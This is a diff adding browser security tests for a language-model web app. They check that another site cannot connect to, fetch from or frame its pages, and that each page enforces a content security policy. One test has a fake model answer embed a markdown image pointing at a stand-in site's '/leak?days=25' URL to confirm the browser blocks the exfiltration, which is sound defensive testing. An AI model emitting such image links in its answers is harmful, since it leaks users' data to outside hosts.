@@ -1,0 +1,137 @@
+"""What other web sites can do to the program in a real browser, and what its pages may load."""
+
+import threading
+from collections.abc import Iterator
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from urllib.parse import urlsplit
+
+import pytest
+
+from tests.browser.actions import ask, settle
+from tests.browser.conftest import no_policy_violations
+from tests.fakes.openai import OpenAIServer, Text
+
+sync_api = pytest.importorskip("playwright.sync_api", reason="pip install playwright")
+
+pytestmark = [pytest.mark.browser, pytest.mark.slow]
+
+PAGES = ("", "catalogue", "library", "imports", "retrieval_lab", "document?id=none")
+CONNECT = """
+(address) => new Promise((done) => {
+  const socket = new WebSocket(address);
+  socket.onopen = () => done("opened");
+  socket.onerror = () => done("refused");
+})
+"""
+FETCH = """
+(address) => fetch(address, { mode: "no-cors" }).then(
+  (response) => response.type, () => "refused")
+"""
+FRAME = """
+(address) => new Promise((done) => {
+  const frame = document.createElement("iframe");
+  frame.src = address;
+  frame.onload = () => done(frame.contentDocument === null ? "loaded elsewhere" : "empty");
+  document.body.append(frame);
+})
+"""
+
+
+class _Site(BaseHTTPRequestHandler):
+    """Another web site on this machine, which also notes what it is asked for."""
+
+    def do_GET(self):
+        self.server.asked.append(self.path)
+        self.send_response(200)
+        self.send_header("Content-Type", "text/html")
+        self.end_headers()
+        self.wfile.write(b"<!DOCTYPE html><title>Another site</title><body>Another site</body>")
+
+    def log_message(self, format, *args):
+        """Nothing is printed."""
+
+
+@pytest.fixture
+def other_site() -> Iterator[ThreadingHTTPServer]:
+    site = ThreadingHTTPServer(("127.0.0.1", 0), _Site)
+    site.asked = []
+    site.origin = f"http://localhost:{site.server_address[1]}"
+    threading.Thread(target=site.serve_forever, daemon=True).start()
+    yield site
+    site.shutdown()
+    site.server_close()
+
+
+@pytest.fixture
+def elsewhere(
+    browser: "sync_api.Browser", other_site: ThreadingHTTPServer
+) -> Iterator["sync_api.Page"]:
+    """A page of the other site, open."""
+    context = browser.new_context()
+    page = context.new_page()
+    page.goto(other_site.origin)
+    yield page
+    context.close()
+
+
+def test_a_page_of_another_site_cannot_open_a_connection(
+    elsewhere: "sync_api.Page", address: str
+) -> None:
+    stream = f"ws://{urlsplit(address).netloc}/_stcore/stream"
+    assert elsewhere.evaluate(CONNECT, stream) == "refused"
+
+
+def test_a_page_of_another_site_cannot_load_anything(
+    elsewhere: "sync_api.Page", address: str
+) -> None:
+    assert elsewhere.evaluate(FETCH, f"{address}/_stcore/health") == "refused"
+
+
+def test_a_page_of_another_site_cannot_put_the_pages_into_a_frame(
+    elsewhere: "sync_api.Page", address: str
+) -> None:
+    said: list[str] = []
+    elsewhere.on("console", lambda message: said.append(message.text))
+    elsewhere.evaluate(FRAME, address)
+    assert any("frame-ancestors" in text for text in said)
+    assert not any(frame.url.startswith(address) for frame in elsewhere.frames)
+
+
+@pytest.mark.parametrize("look", ["light", "dark"])
+def test_every_page_works_under_its_content_security_policy(
+    browser: "sync_api.Browser", address: str, look: str
+) -> None:
+    context = browser.new_context(color_scheme=look, locale="en-GB")
+    with no_policy_violations(context):
+        page = context.new_page()
+        for path in PAGES:
+            policy = page.goto(f"{address}/{path}").headers["content-security-policy"]
+            assert "frame-ancestors 'none'" in policy
+            settle(page)
+            assert page.locator(".stMain").inner_text().strip()
+            assert page.evaluate("document.documentElement.lang") == "en"
+        context.close()
+
+
+def test_a_picture_of_another_site_in_an_answer_is_not_loaded(
+    browser: "sync_api.Browser",
+    address_with_model: str,
+    model_server: OpenAIServer,
+    other_site: ThreadingHTTPServer,
+) -> None:
+    model_server.will(Text(f"Twenty-five days. ![leave]({other_site.origin}/leak?days=25)"))
+    context = browser.new_context(locale="en-GB")
+    page = context.new_page()
+    said: list[str] = []
+    page.on("console", lambda message: said.append(message.text))
+    page.goto(address_with_model)
+    ask(page, "How many days of annual leave do new employees get?")
+    page.evaluate(
+        "(address) => document.body.append(Object.assign(new Image(), { src: address }))",
+        f"{other_site.origin}/leak?by=element",
+    )
+    page.evaluate(FETCH, f"{other_site.origin}/leak?by=fetch")
+    settle(page)
+    assert other_site.asked == []
+    assert any("Content Security Policy" in text for text in said)  # as other tests look for it
+    context.close()
